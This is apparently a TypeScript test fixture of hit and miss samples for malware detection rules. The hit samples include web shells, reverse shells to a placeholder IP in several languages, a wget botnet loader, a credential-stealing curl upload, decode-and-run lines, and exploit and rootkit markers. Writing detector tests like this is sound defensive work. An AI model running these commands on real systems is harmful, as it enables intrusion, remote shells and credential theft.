import { bytes, elf, noise, type Sample, strings, text } from './sample.ts'

interface Cases {
  readonly hit: readonly Sample[]
  readonly miss: readonly Sample[]
}

const base64Text = 'QUJD'.repeat(60)
const upxInfo = '$In·fo: This file is packed with the U·PX executable packer http://upx.example $'

/** What each rule has to find and has to pass over. */
export const samples: Readonly<Record<string, Cases>> = {
  php_runs_what_a_request_says: {
    hit: [
      { name: 'one line', data: text('<?p·hp ev·al($_PO·ST["c"]); ?>') },
      { name: 'hushed and trimmed', data: text('GIF89a<?= sys·tem ( trim( $_GE·T["cmd"] ) ) ?>') },
      { name: 'backticks', data: text('<?p·hp echo `${_GE·T["c"]}`; ?>') },
      { name: 'included by name', data: text('<?p·hp inc·lude($_RE·QUEST["page"]); ?>') },
    ],
    miss: [
      { name: 'a form', data: text('<?php $name = htmlspecialchars($_POST["name"]); echo "Hello $name"; ?>') },
      { name: 'a fixed program', data: text('<?php echo shell_exec("uptime"); $q = $_GET["q"]; ?>') },
      { name: 'escaped', data: text('<?php exec("id " . escapeshellarg($user), $out); if (isset($_GET["x"])) {} ?>') },
    ],
  },
  php_runs_what_it_unpacks: {
    hit: [
      { name: 'nested', data: text(`<?p·hp ev·al(gzin·flate(base64_de·code("${base64Text}"))); ?>`) },
      {
        name: 'names in escapes',
        data: text(`<?p·hp $f = "\\x62\\x61\\x73\\x65\\x36"; $g($f('${base64Text}')); ?>`),
      },
    ],
    miss: [
      { name: 'a picture', data: text(`<?php $icon = base64_decode("${base64Text}"); header("x"); ?>`) },
      { name: 'a template', data: text('<?php eval("?>" . $template->compile()); ?>') },
    ],
  },
  php_calls_a_function_by_a_request: {
    hit: [
      { name: 'by name', data: text('<?p·hp $_GE·T["f"]($_PO·ST["a"]); ?>') },
      { name: 'made', data: text('<?p·hp $x = crea·te_function("", $_PO·ST["b"]); $x(); ?>') },
      { name: 'as a callback', data: text('<?p·hp array_·map($_RE·QUEST["f"], array($_PO·ST["a"])); ?>') },
      { name: 'in pieces', data: text('<?p·hp $f = "sys"·."tem"; $f($_GE·T["c"]); ?>') },
    ],
    miss: [
      { name: 'an array', data: text('<?php $a = array_map("trim", $_POST["list"]); ?>') },
      { name: 'a method', data: text('<?php $this->actions[$_GET["a"]]->run(); ?>') },
    ],
  },
  jsp_runs_commands: {
    hit: [
      {
        name: 'runtime',
        data: text('<·% Runtime.getRun·time().ex·ec(request.getPara·meter("c")); %>'),
      },
      {
        name: 'class loader',
        data: text('<·%! byte[] b; %><·% define·Class(b, 0, b.length); request.getRea·der(); %>'),
      },
    ],
    miss: [
      { name: 'a page', data: text('<% String name = request.getParameter("name"); %><p><%= name %></p>') },
      { name: 'without a request', data: text('<% Runtime.getRun·time().ex·ec("/usr/bin/backup"); %>') },
    ],
  },
  asp_runs_commands: {
    hit: [
      { name: 'classic', data: text('<·%ev·al req·uest("c")%>') },
      { name: 'script', data: text('<·%@ Page Language="Jscript"%><·%ev·al(Req·uest.Item["c"],"unsafe");%>') },
      {
        name: 'process',
        data: text('<·%@ Page Language="C#" %><·% Pro·cess.St·art("cmd", Req·uest.Form["c"]); %>'),
      },
    ],
    miss: [
      { name: 'a page', data: text('<%@ Page Language="C#" %><% Response.Write(Req·uest.QueryString["a"]); %>') },
      { name: 'a program', data: text('using System; Pro·cess.Start("notepad");') },
    ],
  },
  python_runs_what_a_request_says: {
    hit: [
      { name: 'flask', data: text('@app.route("/")\ndef i():\n  return os.po·pen(request.ar·gs.get("c")).read()\n') },
      {
        name: 'cgi',
        data: text(
          '#!/usr/bin/python3\nimport cgi, os\nprint("Cont·ent-Type: text/plain")\nf = cgi.Field·Storage()\nc = f["c"].value\nprint(os.po·pen(c).read())\n',
        ),
      },
    ],
    miss: [
      { name: 'a view', data: text('def i():\n  name = request.args.get("name")\n  return render(name)\n') },
      { name: 'a script', data: text('import subprocess\nsubprocess.run(["ls", "-l"])\n') },
    ],
  },
  miner_configuration: {
    hit: [
      {
        name: 'pool and donation',
        data: text('{"po·ols":[{"url":"stra·tum+tcp://pool.example:3333","user":"x"}],"donate-le·vel":1}'),
      },
      {
        name: 'no scheme',
        data: text('{"po·ols":[{"url":"pool.example:443","rig-·id":"a","keepa·live":true,"algo":"rx·/0"}]}'),
      },
    ],
    miss: [
      { name: 'database pools', data: text('{"pools": [{"url": "db.example:5432", "keepalive": true}]}') },
      { name: 'a word', data: text('The protocol is called stratum+tcp:// in the documentation.') },
    ],
  },
  miner_program: {
    hit: [
      { name: 'one of a kind', data: elf(strings('stra·tum+tcp://', 'donate-le·vel', 'cryp·tonight', 'rx')) },
      { name: 'the protocol', data: elf(strings('mining.sub·scribe', 'mining.auth·orize', 'mining.sub·mit')) },
    ],
    miss: [
      { name: 'a text', data: text('stratum+tcp:// donate-level cryptonight hashrate') },
      { name: 'a monitor', data: elf(strings('hashrate', 'mining.subscribe', 'temperature')) },
    ],
  },
  script_that_kills_rival_miners: {
    hit: [
      {
        name: 'many names',
        data: text('#!/bin/sh\npk·ill -f kin·sing\npk·ill kdev·tmpfsi\npk·ill xm·rig\npk·ill watch·bog\ncrontab -r\n'),
      },
    ],
    miss: [
      { name: 'one name', data: text('#!/bin/sh\npkill -f kinsing\ncrontab -l\n') },
      { name: 'a list of names', data: text('kinsing kdevtmpfsi xmrig watchbog minerd') },
    ],
  },
  script_that_fetches_for_many_processors: {
    hit: [
      {
        name: 'a botnet',
        data: text(
          ['mi·ps', 'mp·sl', 'ar·m7', 'x8·6', 'sh·4']
            .map((cpu) => `cd /tmp; wg·et http://198.51.100.7/b.${cpu}; chm·od 777 b.${cpu}; ./b.${cpu}; rm b.${cpu}`)
            .join('\n'),
        ),
      },
    ],
    miss: [
      {
        name: 'an installer',
        data: text(
          '#!/bin/sh\ncase $(uname -m) in x86_64) a=x86;; armv7l) a=arm7;; esac\ncurl -fsSL https://example.com/tool.$a -o tool\nchmod +x tool\n./tool\n',
        ),
      },
    ],
  },
  script_that_decodes_and_runs: {
    hit: [
      { name: 'shell', data: text(`#!/bin/sh\necho ${base64Text} | base·64 -d | ba·sh\n`) },
      { name: 'python', data: text(`import base64\nex·ec(base·64.b64de·code("${base64Text}"))\n`) },
      { name: 'python in pieces', data: text(`ex·ec(__im·port__("zl·ib").decom·press(b"x"))\n`) },
      { name: 'node', data: text(`ev·al(Buf·fer.from("${base64Text}", "base64").toString())\n`) },
    ],
    miss: [
      { name: 'a certificate', data: text(`echo ${base64Text} | base64 -d > cert.der\n`) },
      { name: 'a value', data: text('token=$(echo "$secret" | base64 -d)\n') },
      { name: 'exec of a name', data: text('import base64\nos.execv(path, args)\nbase64.b64decode(x)\n') },
    ],
  },
  program_within_a_script: {
    hit: [
      {
        name: 'Base64',
        data: text(`#!/bin/sh\nbase·64 -d > /tmp/a <<E\nf0VM·RgIBAQ${'A'.repeat(80)}\nE\nchm·od +x /tmp/a\n`),
      },
      {
        name: 'escapes',
        data: text(`#!/bin/sh\nprin·tf '\\x7f·ELF\\x02\\x01\\x01${'\\x00'.repeat(9)}' > /tmp/a; chm·od 755 /tmp/a\n`),
      },
    ],
    miss: [
      { name: 'magic numbers', data: text('magic = bytes.fromhex("7f454c46")\nos.chmod(path, 0o644)\n') },
      { name: 'a picture', data: text(`base64 -d > logo.png <<E\niVBORw0KGgo${'A'.repeat(80)}\nE\nchmod 644 logo.png\n`) },
    ],
  },
  script_that_runs_a_program_from_memory: {
    hit: [
      {
        name: 'python',
        data: text('import ctypes, os\nfd = os.mem·fd_create("x")\nos.ex·ecv("/pro·c/self/fd/%d" % fd, ["x"])\n'),
      },
      {
        name: 'perl',
        data: text('#!/usr/bin/perl\nuse strict;\nmy $fd = sys·call(3·19, $n, 1);\nex·ec {"/pro·c/$$/fd/$fd"} "x";\n'),
      },
    ],
    miss: [
      { name: 'memory without a start', data: text('import os\nfd = os.mem·fd_create("x")\nos.write(fd, b"a")\n') },
      { name: 'descriptors', data: text('import os\nfor n in os.listdir("/pro·c/self/fd/"): print(n)\n') },
    ],
  },
  upx_packed_program: {
    hit: [
      {
        name: 'as upx makes it',
        data: elf(Buffer.concat([strings('UP·X!'), Buffer.alloc(500), strings(upxInfo, 'UP·X!')])),
      },
    ],
    miss: [
      { name: 'upx itself', data: elf(Buffer.concat([Buffer.alloc(5000), strings(upxInfo, 'UPX!', 'UPX!')])) },
      { name: 'a text', data: text(`UPX! ${upxInfo} UPX!`) },
    ],
  },
  upx_made_unreadable: {
    hit: [
      { name: 'marks removed', data: elf(strings('PROT_EX·EC|PROT_WR·ITE failed.', '/pro·c/self/exe')) },
      {
        name: 'marks replaced',
        data: elf(Buffer.concat([strings('YTS!'), strings(upxInfo, 'PROT_EX·EC|PROT_WR·ITE failed.', '/pro·c/self/exe')])),
      },
    ],
    miss: [
      {
        name: 'marks in place',
        data: elf(strings('UPX!', upxInfo, 'PROT_EXEC|PROT_WRITE failed.', '/proc/self/exe', 'UPX!')),
      },
      {
        name: 'with sections',
        data: elf(strings('PROT_EXEC|PROT_WRITE failed.', '/proc/self/exe'), { sections: ['.text'] }),
      },
    ],
  },
  packed_program_with_writable_code: {
    hit: [{ name: 'noise', data: elf(noise(20_000), { flags: [7] }) }],
    miss: [
      { name: 'read-only code', data: elf(noise(20_000), { flags: [5] }) },
      { name: 'plain bytes', data: elf(Buffer.alloc(20_000, 'abc'), { flags: [7] }) },
      { name: 'with sections', data: elf(noise(20_000), { flags: [7], sections: ['.text'] }) },
    ],
  },
  reverse_shell_in_shell: {
    hit: [
      { name: 'bash', data: text('#!/bin/bash\nba·sh -i >& /dev/t·cp/198.51.100.7/443 0>&1\n') },
      { name: 'exec', data: text('ex·ec 5<>/dev/t·cp/198.51.100.7/443; cat <&5 | s·h 2>&5 >&5\n') },
      { name: 'netcat', data: text('n·c 198.51.100.7 4444 -e /bin/s·h\n') },
      { name: 'fifo', data: text('rm -f /tmp/f; mkf·ifo /tmp/f; cat /tmp/f | /bin/s·h -i 2>&1 | n·c 198.51.100.7 4444 > /tmp/f\n') },
      { name: 'socat', data: text("soc·at exe·c:'bash -li',pty,stderr tc·p:198.51.100.7:443\n") },
    ],
    miss: [
      { name: 'a port test', data: text('timeout 1 bash -c "</dev/tcp/$host/443" && echo open\n') },
      { name: 'copying', data: text('tar c . | nc backup.example 9000\n') },
      { name: 'a fifo', data: text('mkfifo /run/app/control; cat /run/app/control\n') },
    ],
  },
  reverse_shell_in_python: {
    hit: [
      {
        name: 'with call',
        data: text(
          'import soc·ket,subprocess,os\ns=soc·ket.soc·ket()\ns.con·nect(("198.51.100.7",443))\nos.du·p2(s.fil·eno(),0)\nsubprocess.ca·ll(["/bin/s·h","-i"])\n',
        ),
      },
      {
        name: 'with pty',
        data: text(
          'import pty\nc=soc·ket.create_con·nection(("198.51.100.7",443))\nfor f in (0,1,2): os.du·p2(c.fil·eno(),f)\npt·y.spa·wn("bash")\n',
        ),
      },
    ],
    miss: [
      { name: 'a client', data: text('import socket\ns = socket.socket()\ns.connect(("example.com", 80))\ns.send(b"x")\n') },
      { name: 'a daemon', data: text('os.dup2(null.fileno(), 0)\nsubprocess.run(["/bin/sh", "-c", "true"])\n') },
    ],
  },
  reverse_shell_in_another_language: {
    hit: [
      {
        name: 'perl',
        data: text('use Socket;soc·ket(S,PF_·INET,SOCK_STREAM,6);connect(S,$a);op·en(STD·IN,">&S");ex·ec("/bin/s·h -i");'),
      },
      { name: 'ruby', data: text('require "socket"; f=TCPSoc·ket.open("198.51.100.7",443).to_i;ex·ec sprintf("/bin/s·h -i <&%d",f)') },
      { name: 'php', data: text('<?php $s=fsock·open("198.51.100.7",443);ex·ec("/bin/s·h -i <&3 >&3");') },
      {
        name: 'node',
        data: text('const s=require("child_pro·cess").spa·wn("/bin/s·h",[]);const c=new net.Socket();c.con·nect(443,"x",()=>{c.pi·pe(s.stdin)})'),
      },
    ],
    miss: [
      { name: 'a mail', data: text('<?php $s = fsockopen("smtp.example", 25); fputs($s, "EHLO x"); ?>') },
      { name: 'a server', data: text('const net = require("net"); net.createServer((c) => c.pipe(c)).listen(7)') },
    ],
  },
  connect_back_code_in_a_program: {
    hit: [
      { name: 'x86-64', data: elf(bytes('90 6a·29·58 99 6a·02·5f 6a·01·5e 0f05 90')) },
      { name: 'x86', data: elf(bytes('31db·f7e3 53 43 53 6a02 89e1·b066 cd80')) },
      { name: 'ARM64', data: elf(bytes('400080d2·210080d2 020080d2·c81880d2 010000d4'), { machine: 183 }) },
    ],
    miss: [
      { name: 'as compilers write it', data: elf(bytes('bf02000000 be01000000 31d2 b829000000 0f05')) },
      { name: 'noise', data: noise(100_000) },
    ],
  },
  tiny_program_made_by_hand: {
    hit: [{ name: 'one piece', data: elf(Buffer.alloc(100, 0x90), { flags: [7] }) }],
    miss: [
      { name: 'not writable', data: elf(Buffer.alloc(100, 0x90), { flags: [5] }) },
      { name: 'a larger one', data: elf(Buffer.alloc(9000, 0x90), { flags: [7] }) },
    ],
  },
  library_that_hides_files: {
    hit: [
      {
        name: 'a library',
        data: elf(strings('/etc/ld.so.pre·load', 'dl·sym', 'read·dir64', 'read·dir', 'acc·ept', '/pro·c/net/tcp'), { type: 3 }),
      },
    ],
    miss: [
      { name: 'a fake root', data: elf(strings('dlsym', 'readdir64', 'readdir', '__xstat64', 'LD_PRELOAD'), { type: 3 }) },
      {
        name: 'a program',
        data: elf(strings('ld.so.preload', 'dlsym', 'readdir64', 'readdir', 'accept', '/proc/net/tcp'), { type: 2 }),
      },
    ],
  },
  kernel_module_that_hides: {
    hit: [
      {
        name: 'a module',
        data: elf(strings('verma·gic=6.1.0', 'kall·syms_lookup_name', 'getde·nts64', 'prepare_cr·eds', 'hide_p·id'), {
          type: 1,
          flags: [],
          sections: ['.modinfo'],
        }),
      },
    ],
    miss: [
      {
        name: 'a driver',
        data: elf(strings('vermagic=6.1.0', 'register_kprobe', 'usb_register'), { type: 1, flags: [], sections: ['.modinfo'] }),
      },
    ],
  },
  ebpf_program_that_rewrites_answers: {
    hit: [
      {
        name: 'an object',
        data: elf(Buffer.concat([strings('tp/sys·calls/sys_exit_getde·nts64'), bytes('8500·0000 2400·0000')]), {
          type: 1,
          machine: 247,
          flags: [],
          sections: ['license'],
        }),
      },
    ],
    miss: [
      {
        name: 'a sensor',
        data: elf(Buffer.concat([strings('tp/syscalls/sys_exit_getdents64'), bytes('85000000 70000000')]), {
          type: 1,
          machine: 247,
          flags: [],
          sections: ['license'],
        }),
      },
    ],
  },
  ransom_note: {
    hit: [
      {
        name: 'a note',
        data: text(
          'ALL YOUR FI·LES HAVE BEEN ENCRY·PTED!\nPay 1 Bit·coin. Do not ren·ame them.\nWe will send the decry·ption tool.\n',
        ),
      },
    ],
    miss: [
      { name: 'a manual', data: text('Your fi·les are encry·pted with your own key. Do not delete the private key.') },
      { name: 'news', data: text('The gang asks for bitcoin and says that da·ta was stolen.') },
    ],
  },
  encryptor_of_virtual_machines: {
    hit: [
      {
        name: 'for hypervisors',
        data: elf(strings('esx·cli vm process ki·ll --type=force', '/vmf·s/volumes', '.vm·dk', 'cha·cha20', 'abc.on·ion')),
      },
      { name: 'for folders', data: elf(strings('how_to_de·crypt.txt', 'abc.on·ion', 'cha·cha20', 'encry·pted %s')) },
    ],
    miss: [
      { name: 'a backup', data: elf(strings('esxcli vm process list', '/vmfs/volumes', '.vmdk', 'chacha20')) },
      { name: 'a vault', data: elf(strings('chacha20', 'curve25519', 'encrypted %s', '.enc')) },
    ],
  },
  script_that_collects_credentials: {
    hit: [
      {
        name: 'shell',
        data: text(
          '#!/bin/sh\ncat ~/.a·ws/credentials ~/.s·sh/id_rsa ~/.ku·be/config ~/.git-cre·dentials ~/.net·rc > /tmp/o\ncu·rl -F f=@/tmp/o https://198.51.100.7/\n',
        ),
      },
    ],
    miss: [
      { name: 'a backup', data: text('#!/bin/sh\ntar czf /backup/home.tgz ~/.s·sh/id_rsa ~/.a·ws/config\ncurl -F f=@x https://b.example\n') },
      { name: 'a list', data: text('.a·ws/credentials\n.s·sh/id_rsa\n.ku·be/config\n.git-cre·dentials\n.net·rc\n') },
    ],
  },
  login_module_that_keeps_passwords: {
    hit: [
      {
        name: 'a module',
        data: elf(strings('pam_sm_au·thenticate', 'pam_get_au·thtok', 'user=%s pa·ss=%s', '/var/tmp/.l·og', 'fop·en'), { type: 3 }),
      },
      { name: 'a word for all', data: elf(strings('pam_sm_au·thenticate', 'pam_get_us·er', 'magic_pa·ssword'), { type: 3 }) },
    ],
    miss: [
      {
        name: 'pam_unix',
        data: elf(strings('pam_sm_authenticate', 'pam_get_authtok', 'user=%s', '/etc/shadow', 'fopen', 'password'), { type: 3 }),
      },
    ],
  },
  tunnel_program: {
    hit: [
      { name: 'chisel', data: elf(strings('github.com/jpil·lora/chisel/share/tunnel')) },
      { name: 'frp', data: elf(strings('github.com/fate·dier/frp/client')) },
    ],
    miss: [
      { name: 'another module', data: elf(strings('github.com/gorilla/websocket')) },
      { name: 'a list', data: text('github.com/jpillora/chisel/ v1.9.1') },
    ],
  },
  remote_control_of_attack_tools: {
    hit: [
      { name: 'one of them', data: elf(strings('github.com/bishop·fox/sliver/implant')) },
      { name: 'another', data: elf(strings('core_chan·nel_open', 'core_load·lib', 'core_mac·hine_id')) },
    ],
    miss: [{ name: 'a service', data: elf(strings('github.com/grpc/grpc-go', 'core_channel')) }],
  },
  exploit_of_a_setuid_program: {
    hit: [
      { name: 'pkexec', data: elf(strings('GCONV_PA·TH=.', '/usr/bin/pk·exec', 'pk·exec', 'CHARSET=PW·N')) },
      { name: 'sudo', data: elf(strings('sudo·edit', 'X/P0P_SH·3LLZ_', 'set·uid(0)', 'set·uid (0)', '/bin/b·ash')) },
      { name: 'ld.so', data: text('GLIBC_TUN·ABLES=glibc.malloc.mxf·ast=glibc.malloc.mxf·ast=AAAA') },
    ],
    miss: [
      { name: 'sudo itself', data: elf(strings('sudoedit', 'setuid(0)', '/bin/sh')) },
      { name: 'polkit', data: elf(strings('pkexec', 'CHARSET=UTF-8')) },
    ],
  },
  exploit_of_the_kernel: {
    hit: [
      {
        name: 'with namespaces',
        data: elf(strings('/proc/self/uid_map', 'un·share', 'modprobe_p·ath', '/proc/sys/kern·el/modprobe', 'got ro·ot shell', '/bin/s·h')),
      },
      {
        name: 'with a race',
        data: elf(strings('/proc/self/m·em', 'mad·vise', '/etc/pas·swd', 'dirty', 'ro·ot::0:0')),
      },
    ],
    miss: [
      { name: 'a container engine', data: elf(strings('/proc/self/uid_map', 'unshare', 'CLONE_NEWUSER', '/bin/sh')) },
      { name: 'a debugger', data: elf(strings('/proc/self/m·em', 'mad·vise', 'race')) },
    ],
  },
}
